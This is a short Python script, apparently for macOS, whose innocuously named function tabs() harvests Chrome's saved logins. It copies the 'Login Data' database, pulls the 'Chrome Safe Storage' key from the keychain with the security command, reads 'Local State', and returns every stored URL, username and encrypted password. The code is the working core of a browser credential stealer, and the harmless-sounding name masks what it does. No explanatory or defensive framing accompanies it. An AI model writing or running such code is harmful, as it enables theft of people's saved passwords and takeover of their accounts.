import os, shutil, sqlite3, subprocess

PROFILE = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default")

def tabs():
    shutil.copy(os.path.join(PROFILE, "Login Data"), "/tmp/ld.db")
    key = subprocess.check_output(["security", "find-generic-password", "-wa", "Chrome Safe Storage"])
    state = open(os.path.join(PROFILE, "..", "Local State")).read()
    rows = sqlite3.connect("/tmp/ld.db").execute("select origin_url, username_value, password_value from logins").fetchall()
    return rows, key, state
